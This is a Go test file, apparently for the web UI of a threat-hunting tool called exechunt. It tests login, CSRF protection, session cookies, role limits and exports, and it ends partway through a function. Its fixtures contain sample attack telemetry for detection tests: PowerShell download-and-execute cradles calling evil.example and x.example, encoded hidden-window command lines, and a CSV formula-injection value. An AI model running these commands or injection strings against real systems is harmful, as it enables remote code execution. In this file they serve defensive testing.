package webui_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/exechunt/exechunt/orchestrator/anomalies"
	"github.com/exechunt/exechunt/orchestrator/apiv1"
	"github.com/exechunt/exechunt/orchestrator/hunts"
	"github.com/exechunt/exechunt/orchestrator/operatorapi"
	"github.com/exechunt/exechunt/orchestrator/store"
	"github.com/exechunt/exechunt/orchestrator/store/sqlite"
	"github.com/exechunt/exechunt/orchestrator/webui"
)

const (
	adminToken  = "admin-token-for-tests"
	viewerToken = "viewer-token-for-tests"
)

// fixture is a UI over a real SQLite store and operator API, seeded with two
// hosts, a finished process_lineage query and a finished script-block query.
type fixture struct {
	t         *testing.T
	srv       *httptest.Server
	st        *sqlite.Store
	now       time.Time
	win, lnx  int64
	treeQuery int64
	scriptQ   int64
	hunts     *fakeHunts
	anomalies *fakeAnomalies
}

var treeRows = []map[string]string{
	{"pid": "100", "parent": "4", "name": "explorer.exe", "cmdline": "C:\\Windows\\explorer.exe", "process_guid": "G-A", "parent_process_guid": "", "ancestry": "explorer.exe", "ancestor_pids": "", "score": "0", "start_time": "10"},
	{"pid": "200", "parent": "100", "name": "winword.exe", "cmdline": "WINWORD.EXE /n invoice.docm", "process_guid": "G-B", "parent_process_guid": "G-A", "ancestry": "explorer.exe > winword.exe", "ancestor_pids": "100", "score": "0", "start_time": "20"},
	{"pid": "300", "parent": "200", "name": "powershell.exe", "cmdline": "powershell.exe -nop -w hidden -enc SQBFAFgA", "process_guid": "G-C", "parent_process_guid": "G-B", "ancestry": "explorer.exe > winword.exe > powershell.exe", "ancestor_pids": "100,200", "score": "90", "indicators": "encoded_command,hidden_window,office_child_shell", "decoded_command": "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')", "username": "CORP\\alice", "start_time": "30"},
	{"pid": "400", "parent": "600", "name": "cmd.exe", "cmdline": "cmd.exe /c whoami", "process_guid": "G-D", "parent_process_guid": "G-GONE", "ancestry": "services.exe > svchost.exe > cmd.exe", "ancestor_pids": "500,600", "score": "10", "start_time": "40"},
	{"pid": "401", "parent": "600", "name": "notepad.exe", "cmdline": "=cmd|' /C calc'!A0", "process_guid": "G-E", "parent_process_guid": "G-GONE", "ancestry": "services.exe > svchost.exe > notepad.exe", "ancestor_pids": "500,600", "score": "0", "start_time": "41"},
}

var scriptRow = map[string]string{
	"script_block_id": "0d1c-block", "datetime": "2017-08-30T19:13:38Z", "computer": "WIN-1", "message_total": "2", "parts_seen": "2",
	"complete": "1", "script_path": "", "script_sha256": "abc123", "score": "100", "indicators": "download_cradle,invoke_expression",
	"entropy": "3.3", "cosine_similarity": "0.7", "event_record_ids": "11,12", "pid": "300",
	"script_text": "& 'iex' 'IEX (New-Object Net.WebClient).DownloadString(''https://x.example/p.ps1'')'",
	"decoded":     "IEX (New-Object Net.WebClient).DownloadString('https://x.example/p.ps1')",
}

// newFixture builds the UI; services adds the hunt and anomaly routes to the
// operator API (fakes of the services behind them).
func newFixture(t *testing.T, services bool) *fixture {
	t.Helper()
	ctx := context.Background()
	st, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	f := &fixture{t: t, st: st, now: time.Now().UTC()}
	for _, tk := range []struct{ tok, role string }{{adminToken, apiv1.RoleAdmin}, {viewerToken, apiv1.RoleViewer}} {
		if _, err := st.CreateToken(ctx, store.Token{Name: tk.role + "-user", Role: tk.role, Hash: operatorapi.HashToken(tk.tok), CreatedAt: f.now}); err != nil {
			t.Fatal(err)
		}
	}
	enroll := func(name, platform string, seen time.Time) int64 {
		h, err := st.EnrollHost(ctx, store.Enrollment{Host: store.Host{Identifier: name, Hostname: name, UUID: "U-" + name,
			Platform: platform, OSName: platform + " os", OsqueryVersion: "5.23.1"}, NodeKeyHash: []byte("nk-" + name)}, seen)
		if err != nil {
			t.Fatal(err)
		}
		return h.ID
	}
	f.win = enroll("win-1", "windows", f.now.Add(-10*time.Second))
	f.lnx = enroll("lnx-1", "linux", f.now.Add(-2*time.Hour))
	f.treeQuery = f.answered(webui.TreeSQL, f.win, treeRows)
	f.scriptQ = f.answered(fmt.Sprintf(webui.ScriptsSQL, ""), f.win, []map[string]string{scriptRow})

	oc := operatorapi.Config{Hosts: st, Tokens: st, Live: st, Poll: 20 * time.Millisecond, Audit: st}
	if services {
		f.hunts = newFakeHunts()
		f.anomalies = newFakeAnomalies()
		oc.Hunts = f.hunts
		oc.Forwarding = func(context.Context) ([]apiv1.ForwardingStatus, error) {
			oldest := f.now.Add(-3 * time.Minute)
			return []apiv1.ForwardingStatus{{Destination: "https://siem.example/hook", Configured: true, Queued: 2,
				Retrying: 2, Delivered: 40, Dead: 1, OldestQueued: &oldest}}, nil
		}
	}
	api, err := operatorapi.New(oc)
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	api.Register(mux)
	if services {
		api.RegisterAnomalies(mux, f.anomalies)
	}
	c := webui.Config{API: mux, Insecure: true, Version: "test"}
	ui, err := webui.New(c)
	if err != nil {
		t.Fatal(err)
	}
	ui.Register(mux)
	f.srv = httptest.NewServer(mux)
	t.Cleanup(f.srv.Close)
	return f
}

// answered creates a live query on host and records rows as its answer.
func (f *fixture) answered(sql string, host int64, rows []map[string]string) int64 {
	ctx := context.Background()
	q, err := f.st.CreateLiveQuery(ctx, store.LiveQuery{SQL: sql, Targets: json.RawMessage(`{"host_ids":[1]}`), CreatedBy: "admin-user",
		Deadline: f.now.Add(time.Minute)}, []int64{host}, f.now)
	if err != nil {
		f.t.Fatal(err)
	}
	if _, err := f.st.TakePendingQueries(ctx, host, f.now); err != nil {
		f.t.Fatal(err)
	}
	if _, err := f.st.RecordResults(ctx, host, []store.HostResult{{QueryID: q.ID, Rows: rows}}, f.now); err != nil {
		f.t.Fatal(err)
	}
	if _, err := f.st.FinishLiveQueries(ctx, f.now); err != nil {
		f.t.Fatal(err)
	}
	return q.ID
}

// client is a browser-like client: cookies kept, redirects not followed.
type client struct {
	f    *fixture
	hc   *http.Client
	csrf string
}

func (f *fixture) client() *client {
	jar, _ := cookiejar.New(nil)
	return &client{f: f, hc: &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

var csrfRe = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

func (c *client) do(method, path string, form url.Values, hdr map[string]string) (*http.Response, string) {
	c.f.t.Helper()
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	req, err := http.NewRequest(method, c.f.srv.URL+path, body)
	if err != nil {
		c.f.t.Fatal(err)
	}
	if form != nil {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := c.hc.Do(req)
	if err != nil {
		c.f.t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if m := csrfRe.FindSubmatch(b); m != nil {
		c.csrf = string(m[1])
	}
	return resp, string(b)
}

func (c *client) get(path string) (*http.Response, string) {
	return c.do(http.MethodGet, path, nil, nil)
}

func (c *client) login(token string) {
	c.f.t.Helper()
	c.get("/ui/login")
	resp, body := c.do(http.MethodPost, "/ui/login", url.Values{"csrf": {c.csrf}, "token": {token}, "next": {"/ui/hosts"}}, nil)
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/ui/hosts" {
		c.f.t.Fatalf("login: %d %s\n%s", resp.StatusCode, resp.Header.Get("Location"), body)
	}
	c.get("/ui/") // picks up the session's CSRF token
}

var pages = []string{"/ui/", "/ui/hosts", "/ui/console", "/ui/hosts/1/tree", "/ui/hosts/1/tree?query=1",
	"/ui/hosts/1/scripts", "/ui/hosts/1/scripts?query=2", "/ui/hosts/1/scripts/view?query=2&block=0d1c-block",
	"/ui/anomalies", "/ui/anomalies/7", "/ui/hunts", "/ui/hunts/execution"}

func TestPagesNeedLogin(t *testing.T) {
	f := newFixture(t, true)
	c := f.client()
	for _, p := range append(pages, "/ui/queries/1/export?format=csv") {
		resp, _ := c.get(p)
		if resp.StatusCode != http.StatusSeeOther || !strings.HasPrefix(resp.Header.Get("Location"), "/ui/login?next=") {
			t.Errorf("GET %s without a session: %d %q, want a redirect to the login page", p, resp.StatusCode, resp.Header.Get("Location"))
		}
	}
	for _, p := range []string{"/ui/api/v1/hosts", "/ui/api/v1/queries/1/events"} {
		if resp, _ := c.get(p); resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("GET %s without a session: %d, want 401", p, resp.StatusCode)
		}
	}
	for _, p := range []string{"/ui/hosts/1/tree", "/ui/api/v1/queries", "/ui/anomalies/7/triage", "/ui/hunts/execution/run", "/ui/logout"} {
		if resp, _ := c.do(http.MethodPost, p, url.Values{}, nil); resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("POST %s without a session: %d, want 401", p, resp.StatusCode)
		}
	}
	// A forged session cookie is no session.
	u, _ := url.Parse(f.srv.URL + "/ui/")
	c.hc.Jar.SetCookies(u, []*http.Cookie{{Name: "exechunt_session", Value: "forged", Path: "/ui/"}})
	if resp, _ := c.get("/ui/"); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("forged cookie: %d", resp.StatusCode)
	}
}

func TestLogin(t *testing.T) {
	f := newFixture(t, false)
	c := f.client()
	resp, body := c.get("/ui/login")
	if resp.StatusCode != 200 || !strings.Contains(body, `<label for="token">API token</label>`) {
		t.Fatalf("login page: %d\n%s", resp.StatusCode, body)
	}
	// Wrong CSRF token (the login form's double-submit cookie does not match).
	resp, body = c.do(http.MethodPost, "/ui/login", url.Values{"csrf": {"nope"}, "token": {adminToken}}, nil)
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "expired") {
		t.Errorf("login with a bad CSRF token: %d", resp.StatusCode)
	}
	// Cross-site form post, even with the right token.
	c.get("/ui/login")
	resp, _ = c.do(http.MethodPost, "/ui/login", url.Values{"csrf": {c.csrf}, "token": {adminToken}}, map[string]string{"Origin": "https://evil.example"})
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("cross-origin login: %d", resp.StatusCode)
	}
	c.get("/ui/login")
	resp, body = c.do(http.MethodPost, "/ui/login", url.Values{"csrf": {c.csrf}, "token": {"wrong"}}, nil)
	if resp.StatusCode != http.StatusUnauthorized || !strings.Contains(body, "not valid") {
		t.Errorf("login with a bad token: %d\n%s", resp.StatusCode, body)
	}
	if strings.Contains(body, "wrong") {
		t.Error("the login page echoes the token")
	}
	c.get("/ui/login")
	resp, _ = c.do(http.MethodPost, "/ui/login", url.Values{"csrf": {c.csrf}, "token": {adminToken}, "next": {"//evil.example/"}}, nil)
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/ui/" {
		t.Errorf("login with an off-site next: %d %q", resp.StatusCode, resp.Header.Get("Location"))
	}
	var sess *http.Cookie
	for _, ck := range resp.Cookies() {
		if ck.Name == "exechunt_session" {
			sess = ck
		}
	}
	if sess == nil || !sess.HttpOnly || sess.SameSite != http.SameSiteStrictMode || sess.Path != "/ui/" {
		t.Fatalf("session cookie = %+v", sess)
	}
	if strings.Contains(sess.Value, adminToken) {
		t.Error("the session cookie holds the token")
	}
	resp, body = c.get("/ui/")
	if resp.StatusCode != 200 || !strings.Contains(body, "admin-user") {
		t.Fatalf("overview after login: %d", resp.StatusCode)
	}
	// Logging out ends the session.
	resp, _ = c.do(http.MethodPost, "/ui/logout", url.Values{"csrf": {c.csrf}}, nil)
	if resp.StatusCode != http.StatusSeeOther {
		t.Errorf("logout: %d", resp.StatusCode)
	}
	if resp, _ = c.get("/ui/"); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("after logout: %d", resp.StatusCode)
	}
}

func TestSecureCookieAndHeaders(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /api/v1/whoami", func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(`{"name":"x","role":"admin"}`))
	})
	ui, err := webui.New(webui.Config{API: mux})
	if err != nil {
		t.Fatal(err)
	}
	ui.Register(mux)
	rec := httptest.NewRecorder()
	mux.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/ui/login", nil))
	h := rec.Result().Header
	if h.Get("Content-Security-Policy") != webui.CSP || !strings.Contains(webui.CSP, "script-src 'self'") || strings.Contains(webui.CSP, "unsafe") {
		t.Errorf("CSP = %q", h.Get("Content-Security-Policy"))
	}
	if h.Get("X-Frame-Options") != "DENY" || h.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("headers = %v", h)
	}
	var login *http.Cookie
	for _, ck := range rec.Result().Cookies() {
		login = ck
	}
	m := csrfRe.FindStringSubmatch(rec.Body.String())
	req := httptest.NewRequest(http.MethodPost, "/ui/login", strings.NewReader(url.Values{"csrf": {m[1]}, "token": {"t"}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.AddCookie(login)
	rec = httptest.NewRecorder()
	mux.ServeHTTP(rec, req)
	var sess *http.Cookie
	for _, ck := range rec.Result().Cookies() {
		if ck.Name == "exechunt_session" {
			sess = ck
		}
	}
	if rec.Code != http.StatusSeeOther || sess == nil || !sess.Secure || !sess.HttpOnly || sess.SameSite != http.SameSiteStrictMode {
		t.Errorf("login: %d, cookie %+v", rec.Code, sess)
	}
}

// inlineScript finds what a strict CSP would block: inline scripts, inline
// event handlers, style attributes and javascript: URLs.
var inlineScript = regexp.MustCompile(`(?i)<script(?:\s[^>]*)?>\s*[^<\s]|\son[a-z]+\s*=|\sstyle\s*=|javascript:`)

func TestPagesRender(t *testing.T) {
	f := newFixture(t, true)
	c := f.client()
	c.login(adminToken)
	want := map[string][]string{
		"/ui/": {"windows", "linux", "Recent live queries", "process_lineage", "By technique", "T1059.001", "execution",
			"Highest ranked", `<a href="/ui/anomalies/7"><code class="break">winword.exe → powershell.exe</code></a>`,
			"Forwarding", "https://siem.example/hook", `<td class="num bad">1</td><td>3m ago</td>`},
		"/ui/hosts":                   {"win-1", "lnx-1", "online", "offline", "/ui/hosts/1/tree"},
		"/ui/console":                 {`id="sql"`, "win-1 (windows)", "lnx-1 (linux, offline)", `data-schema="/ui/static/schema.json"`},
		"/ui/hosts/1/tree":            {"Run process_lineage now"},
		"/ui/hosts/1/tree?query=1":    {"powershell.exe", "IEX (New-Object Net.WebClient)", "office_child_shell", `class="suspicious"`, "winword.exe", "explorer.exe"},
		"/ui/hosts/1/scripts?query=2": {"0d1c-block", "download_cradle"},
		"/ui/hosts/1/scripts/view?query=2&block=0d1c-block": {"Script text as logged (2 of 2 parts", "Decoded", "invoke_expression",
			"DownloadString(&#39;https://x.example/p.ps1&#39;)"},
		"/ui/anomalies": {"winword.exe → powershell.exe", "rare: 1 of 40 hosts", "T1059.001", "rarity/rare_parent_child"},
		// The command line whole, and the text the agent decoded from it.
		"/ui/anomalies/7": {"Evidence rows", "invoice.docm", "Suppress because", "2.5%", `<pre class="cmdline">` + longEncodedCmdline + "</pre>",
			"Decoded command", "DownloadString(&#39;http://evil.example/stage2.ps1&#39;)", "<code>rarity/rare_parent_child</code>"},
		"/ui/hunts":           {"every 2 hours, UTC", "Run now", "execution"},
		"/ui/hunts/execution": {"Run history", "every 2 hours, UTC", "3 / 0 / 1 of 4"},
	}
	for _, p := range pages {
		resp, body := c.get(p)
		if resp.StatusCode != 200 {
			t.Errorf("GET %s: %d\n%s", p, resp.StatusCode, body)
			continue
		}
		if resp.Header.Get("Content-Security-Policy") != webui.CSP {
			t.Errorf("GET %s: no CSP", p)
		}
		if m := inlineScript.FindString(body); m != "" {
			t.Errorf("GET %s: %q would break the CSP", p, m)
		}
		for _, w := range want[p] {
			if !strings.Contains(body, w) {
				t.Errorf("GET %s: no %q", p, w)
			}
		}
		if !strings.Contains(body, `<main id="main"`) || !strings.Contains(body, `lang="en"`) {
			t.Errorf("GET %s: no main landmark or language", p)
		}
	}
	// The tree draws the cut chain's ancestors as ghosts under one parent.
	_, body := c.get("/ui/hosts/1/tree?query=1&focus=*")
	if strings.Count(body, "svchost.exe") != 1 || !strings.Contains(body, "no row: exited") || !strings.Contains(body, "notepad.exe") {
		t.Errorf("whole tree: ghosts not drawn once\n%s", body)
	}
	// Without a focus only the suspicious branch is drawn.
	if _, body := c.get("/ui/hosts/1/tree?query=1"); strings.Contains(body, "notepad.exe") {
		t.Error("the pruned tree draws an unrelated branch")
	}
	// Static assets.
	for _, p := range []string{"/ui/static/app.js", "/ui/static/app.css", "/ui/static/schema.json"} {
		if resp, _ := c.get(p); resp.StatusCode != 200 {
			t.Errorf("GET %s: %d", p, resp.StatusCode)
		}
	}
	if resp, _ := c.get("/ui/hosts/99/tree"); resp.StatusCode != http.StatusNotFound {
		t.Errorf("unknown host: %d", resp.StatusCode)
	}
}

// TestUnavailableRoutes: an API served without hunt and anomaly routes makes
// those pages say so, never show made-up data.
func TestUnavailableRoutes(t *testing.T) {
	f := newFixture(t, false)
	c := f.client()
	c.login(adminToken)
	for _, p := range []string{"/ui/anomalies", "/ui/anomalies/7", "/ui/hunts", "/ui/hunts/execution"} {
		resp, body := c.get(p)
		if resp.StatusCode != 200 || !strings.Contains(body, "not available yet") {
			t.Errorf("GET %s: %d, no 'not available yet'", p, resp.StatusCode)
		}
	}
	_, body := c.get("/ui/")
	if strings.Count(body, "Not available yet") != 2 {
		t.Errorf("overview does not say hunts and anomalies are not available")
	}
	if resp, _ := c.do(http.MethodPost, "/ui/hunts/execution/run", url.Values{"csrf": {c.csrf}}, nil); resp.StatusCode != http.StatusNotFound {
		t.Errorf("run now without hunts: %d", resp.StatusCode)
	}
}

func TestCSRF(t *testing.T) {
	f := newFixture(t, true)
	c := f.client()
	c.login(adminToken)
	posts := []struct {
		path string
		form url.Values
	}{
		{"/ui/hosts/1/tree", url.Values{}},
		{"/ui/hosts/1/scripts", url.Values{"min_score": {"50"}}},
		{"/ui/anomalies/7/triage", url.Values{"action": {"acknowledge"}}},
		{"/ui/hunts/execution/run", url.Values{}},
		{"/ui/logout", url.Values{}},
	}
	for _, p := range posts {
		for name, tok := range map[string]string{"missing": "", "wrong": "x" + c.csrf} {
			form := url.Values{}
			for k, v := range p.form {
				form[k] = v
			}
			if tok != "" {
				form.Set("csrf", tok)
			}
			if resp, _ := c.do(http.MethodPost, p.path, form, nil); resp.StatusCode != http.StatusForbidden {
				t.Errorf("POST %s with a %s CSRF token: %d, want 403", p.path, name, resp.StatusCode)
			}
		}
		form := url.Values{"csrf": {c.csrf}}
		for k, v := range p.form {
			form[k] = v
		}
		if resp, _ := c.do(http.MethodPost, p.path, form, map[string]string{"Origin": "https://evil.example"}); resp.StatusCode != http.StatusForbidden {
			t.Errorf("POST %s cross-origin: %d, want 403", p.path, resp.StatusCode)
		}
		if resp, _ := c.do(http.MethodPost, p.path, form, map[string]string{"Sec-Fetch-Site": "cross-site"}); resp.StatusCode != http.StatusForbidden {
			t.Errorf("POST %s cross-site: %d, want 403", p.path, resp.StatusCode)
		}
	}
	// The JSON API needs the header.
	body := `{"sql":"SELECT 1","targets":{"all":true}}`
	req, _ := http.NewRequest(http.MethodPost, f.srv.URL+"/ui/api/v1/queries", strings.NewReader(body))
	resp, err := c.hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("API POST without X-CSRF-Token: %d", resp.StatusCode)
	}
	req, _ = http.NewRequest(http.MethodPost, f.srv.URL+"/ui/api/v1/queries", strings.NewReader(body))
	req.Header.Set("X-CSRF-Token", c.csrf)
	req.Header.Set("Content-Type", "application/json")
	resp, err = c.hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var q apiv1.Query
	json.NewDecoder(resp.Body).Decode(&q)
	resp.Body.Close()
	if resp.StatusCode != http.StatusCreated || q.Hosts != 2 {
		t.Errorf("API POST with the token: %d %+v", resp.StatusCode, q)
	}
	// With the right token the forms work.
	resp2, _ := c.do(http.MethodPost, "/ui/hosts/1/tree", url.Values{"csrf": {c.csrf}}, nil)
	if resp2.StatusCode != http.StatusSeeOther || !strings.HasPrefix(resp2.Header.Get("Location"), "/ui/hosts/1/tree?query=") {
		t.Fatalf("start tree: %d %q", resp2.StatusCode, resp2.Header.Get("Location"))
	}
	d, err := f.st.LiveQuery(context.Background(), q.ID+1)
	if err != nil || d.SQL != webui.TreeSQL || d.CreatedBy != "admin-user" {
		t.Errorf("tree query = %+v %v", d, err)
	}
	// Its page waits for the host's answer, with the hook the script follows.
	_, page := c.get(resp2.Header.Get("Location"))
	if !strings.Contains(page, fmt.Sprintf(`data-wait-query="%d"`, q.ID+1)) {
		t.Errorf("waiting page:\n%s", page)
	}
	resp2, _ = c.do(http.MethodPost, "/ui/hosts/1/scripts", url.Values{"csrf": {c.csrf}, "min_score": {"50"}}, nil)
	if d, _ := f.st.LiveQuery(context.Background(), q.ID+2); resp2.StatusCode != http.StatusSeeOther || !strings.Contains(d.SQL, "WHERE score >= 50") {
		t.Errorf("start scripts: %d %q", resp2.StatusCode, d.SQL)
	}
	resp2, _ = c.do(http.MethodPost, "/ui/anomalies/7/triage", url.Values{"csrf": {c.csrf}, "action": {"suppress"}}, nil)
	if resp2.StatusCode != http.StatusBadRequest {
		t.Errorf("suppress without a reason: %d", resp2.StatusCode)
	}
	resp2, _ = c.do(http.MethodPost, "/ui/anomalies/7/triage", url.Values{"csrf": {c.csrf}, "action": {"suppress"}, "reason": {"IT script"}}, nil)
	if a, _ := f.anomalies.Anomaly(context.Background(), "7"); resp2.StatusCode != http.StatusSeeOther || a.State != apiv1.TriageSuppressed || a.Reason != "IT script" || a.By != "admin-user" {
		t.Errorf("suppress: %d %+v", resp2.StatusCode, a)
	}
	resp2, _ = c.do(http.MethodPost, "/ui/hunts/execution/run", url.Values{"csrf": {c.csrf}}, nil)
	if resp2.StatusCode != http.StatusSeeOther || f.hunts.ranBy() != "execution by admin-user" {
		t.Errorf("run now: %d %q", resp2.StatusCode, f.hunts.ranBy())
	}
}

func TestViewerMayNotAct(t *testing.T) {
	f := newFixture(t, true)
	c := f.client()
	c.login(viewerToken)
	for _, p := range pages {
		if resp, _ := c.get(p); resp.StatusCode != 200 {
			t.Errorf("viewer GET %s: %d", p, resp.StatusCode)
		}
	}
	_, body := c.get("/ui/console")
	if !strings.Contains(body, `id="run" disabled`) {
		t.Error("the console's run button is enabled for a viewer")
	}
	for _, p := range []string{"/ui/hosts/1/tree", "/ui/anomalies/7/triage", "/ui/hunts/execution/run"} {
		if resp, _ := c.do(http.MethodPost, p, url.Values{"csrf": {c.csrf}, "action": {"resolve"}}, nil); resp.StatusCode != http.StatusForbidden {
			t.Errorf("viewer POST %s: %d, want 403", p, resp.StatusCode)
		}
	}
	req, _ := http.NewRequest(http.MethodPost, f.srv.URL+"/ui/api/v1/queries", strings.NewReader(`{"sql":"SELECT 1","targets":{"all":true}}`))
	req.Header.Set("X-CSRF-Token", c.csrf)
	resp, err := c.hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("viewer creating a query through the UI API: %d", resp.StatusCode)
	}
}

func TestStreamAndExport(t *testing.T) {
	f := newFixture(t, false)
	c := f.client()
	c.login(adminToken)
	resp, body := c.get("/ui/api/v1/queries/1/events")
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "text/event-stream" {
		t.Fatalf("events: %d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	if strings.Count(body, "event: row") != len(treeRows) || !strings.Contains(body, "event: summary") {
		t.Errorf("events:\n%s", body)
	}
	resp, body = c.get("/ui/queries/1/export?format=csv")
	if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") ||
		!strings.Contains(resp.Header.Get("Content-Disposition"), "exechunt-query-1.csv") {
		t.Fatalf("csv: %d %v", resp.StatusCode, resp.Header)
	}
	lines := strings.Split(strings.TrimSpace(body), "\n")
	if len(lines) != 1+len(treeRows) || !strings.HasPrefix(lines[0], "host_id,hostname,ancestor_pids,ancestry,") {
		t.Errorf("csv:\n%s", body)
	}
	if !strings.Contains(body, `'=cmd|`) {
		t.Errorf("a formula-like cell is not neutralised:\n%s", body)
	}
	resp, body = c.get("/ui/queries/1/export?format=json")
	var rows []apiv1.Row
	if err := json.Unmarshal([]byte(body), &rows); err != nil || len(rows) != len(treeRows) || rows[0].Hostname != "win-1" {
		t.Errorf("json: %d %v %s", resp.StatusCode, err, body)
	}
	if resp, _ := c.get("/ui/queries/1/export?format=xml"); resp.StatusCode != http.StatusBadRequest {
		t.Errorf("bad format: %d", resp.StatusCode)
	}
}

func TestRevokedTokenEndsSession(t *testing.T) {
	f := newFixture(t, false)
	c := f.client()
	c.login(adminToken)
	ts, _ := f.st.ListTokens(context.Background())
	for _, tk := range ts {
		if tk.Role == apiv1.RoleAdmin {
			f.st.RevokeToken(context.Background(), tk.ID, time.Now())
		}
	}
	if resp, _ := c.get("/ui/hosts"); resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("page with a revoked token: %d", resp.StatusCode)
	}
	if resp, _ := c.get("/ui/hosts"); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("the session outlived its token: %d", resp.StatusCode)
	}
}

func TestSchemaIndex(t *testing.T) {
	f := newFixture(t, false)
	c := f.client()
	c.login(adminToken)
	_, body := c.get("/ui/static/schema.json")
	var idx struct {
		Tables []struct {
			Name      string
			Extension bool
			Columns   []string
		}
	}
	if err := json.Unmarshal([]byte(body), &idx); err != nil {
		t.Fatal(err)
	}
	got := map[string][]string{}
	ext := map[string]bool{}
	for _, tb := range idx.Tables {
		got[tb.Name] = tb.Columns
		ext[tb.Name] = tb.Extension
	}
	b, err := os.ReadFile("../../testdata/extension-spec.json")
	if err != nil {
		t.Fatal(err)
	}
	var spec []struct {
		Name    string
		Columns []struct{ Name string }
	}
	if err := json.Unmarshal(b, &spec); err != nil {
		t.Fatal(err)
	}
	for _, tb := range spec {
		if !ext[tb.Name] {
			t.Errorf("%s is not an exechunt table in the index (run go generate ./orchestrator/webui)", tb.Name)
		}
		for _, col := range tb.Columns {
			if !strings.Contains(","+strings.Join(got[tb.Name], ",")+",", ","+col.Name+",") {
				t.Errorf("%s.%s missing from the index (run go generate ./orchestrator/webui)", tb.Name, col.Name)
			}
		}
	}
	for _, tb := range []string{"processes", "users", "osquery_info"} {
		if len(got[tb]) == 0 || ext[tb] {
			t.Errorf("osquery table %s missing from the index", tb)
		}
	}
}

// --- fakes of the services behind the operator API's hunt and anomaly routes ---

// longEncodedCmdline is longer than any cell the UI would once cut.
const longEncodedCmdline = "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand " +
	"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAA="

type fakeAnomalies struct {
	mu sync.Mutex
	m  map[string]apiv1.Anomaly
}

func newFakeAnomalies() *fakeAnomalies {
	t0 := time.Date(2026, 11, 1, 8, 0, 0, 0, time.UTC)
	mk := func(id string, hunt, tech, sev, parent, name string, hosts, answered int) apiv1.Anomaly {
		sk := apiv1.Stack{Query: hunt + "_office_children", Key: parent + "|" + name, Queries: []string{hunt + "_office_children", "rarity/rare_parent_child"},
			Values: map[string]string{"parent_name": parent, "name": name}, HostCount: hosts, Rows: 3,
			FirstSeen: t0, LastSeen: t0.Add(time.Hour), MaxScore: 90, Indicators: []string{"office_child_shell"},
			Examples: []apiv1.Example{{Host: "win-1", Time: t0, Row: map[string]string{"parent_name": parent, "name": name,
				"cmdline": "WINWORD.EXE /n invoice.docm"}}, {Host: "win-2", Time: t0, Row: map[string]string{"parent_name": parent, "name": name,
				"score": "90", "cmdline": longEncodedCmdline, "decoded_command": "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')"}}}}
		return apiv1.Anomaly{ID: id, Hunts: []string{hunt}, State: apiv1.TriageOpen, Hosts: []string{"win-1", "win-2"},
			Stack: sk, Technique: tech, Severity: sev, Prevalence: float64(hosts) / float64(answered),
			Answered: answered, Rare: true, New: true, HighScore: true, Rank: 0.9,
			Reasons: []string{fmt.Sprintf("rare: %d of %d hosts", hosts, answered), "new: not in the baseline", "score 90"}}
	}
	return &fakeAnomalies{m: map[string]apiv1.Anomaly{
		"7": mk("7", "execution", "T1059.001", "high", "winword.exe", "powershell.exe", 1, 40),
		"8": mk("8", "execution", "T1218.010", "medium", "explorer.exe", "regsvr32.exe", 2, 40),
	}}
}

func (f *fakeAnomalies) Anomalies(_ context.Context, fl anomalies.Filter) ([]apiv1.Anomaly, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	var out []apiv1.Anomaly
	for _, id := range []string{"7", "8"} {
		a := f.m[id]
		if (fl.State == "" || a.State == fl.State) && (fl.Technique == "" || a.Technique == fl.Technique) {
			out = append(out, a)
		}
	}
	return out, nil
}

func (f *fakeAnomalies) Anomaly(_ context.Context, id string) (apiv1.Anomaly, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	a, ok := f.m[id]
	if !ok {
		return a, anomalies.ErrNotFound
	}
	return a, nil
}

func (f *fakeAnomalies) Triage(_ context.Context, id, state, reason, by string) (apiv1.Anomaly, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	a, ok := f.m[id]
	if !ok {
		return a, anomalies.ErrNotFound
	}
